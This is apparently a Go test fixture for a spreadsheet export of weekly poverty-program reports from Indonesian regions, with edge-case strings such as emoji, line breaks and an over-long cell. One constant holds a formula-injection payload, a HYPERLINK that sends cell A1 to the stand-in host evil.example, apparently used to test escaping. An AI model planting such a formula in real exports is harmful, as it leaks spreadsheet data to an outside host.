package export

import (
	"strings"
	"time"

	"tkpkbot"
)

var wita = time.FixedZone("WITA", 8*3600)

const injection = `=HYPERLINK("http://evil.example/?x="&A1,"klik")`

// long is past Excel's cell limit and ends in emoji so truncation has to
// count UTF-16 units, not bytes or runes.
var long = strings.Repeat("Pendataan ulang keluarga miskin ekstrem. ", 900) + "🌧️🌧️"

func fixture() []Row {
	w50 := tkpkbot.Week{Year: 2024, Week: 50}
	return []Row{
		{RegionCode: "6472", RegionName: "Samarinda", Report: tkpkbot.Report{
			Week: w50, Activities: "Verifikasi data P3KE di 10 kelurahan 👍🏽",
			Households: 1250, Budget: 125_000_000,
			Obstacles: injection, NextPlan: "Rapat koordinasi, \"evaluasi\"\r\nbaris kedua",
			SubmittedAt: time.Date(2024, 12, 13, 7, 4, 0, 0, time.UTC), Version: 1,
			Strategies: []string{"pendapatan", "beban"}, Funding: []string{"csr", "apbd_kab"},
		}},
		{RegionCode: "6471", RegionName: "Balikpapan", Revised: true, Report: tkpkbot.Report{
			Week: w50, Activities: "+62 812 5555 0000 dihubungi", Households: 0, Budget: 0,
			Obstacles: "@camat belum membalas", NextPlan: "-",
			SubmittedAt: time.Date(2024, 12, 16, 1, 30, 0, 0, time.UTC), Late: true, Version: 2,
		}},
		{RegionCode: "6411", RegionName: "Mahakam Ulu", Report: tkpkbot.Report{
			Week: tkpkbot.Week{Year: 2025, Week: 1}, Activities: long,
			Households: 44524, Budget: 1_250_000, Version: 1,
		}},
	}
}

func matrix() Matrix {
	w49, w50 := tkpkbot.Week{Year: 2024, Week: 49}, tkpkbot.Week{Year: 2024, Week: 50}
	return Matrix{
		Regions: []string{"Samarinda", "Balikpapan", "Mahakam Ulu"},
		Weeks:   []tkpkbot.Week{w49, w50},
		Cells: map[string]map[tkpkbot.Week]string{
			"Samarinda":   {w49: "terkirim", w50: "terkirim"},
			"Balikpapan":  {w49: "revisi", w50: "terlambat"},
			"Mahakam Ulu": {w49: "libur", w50: "belum"},
		},
	}
}
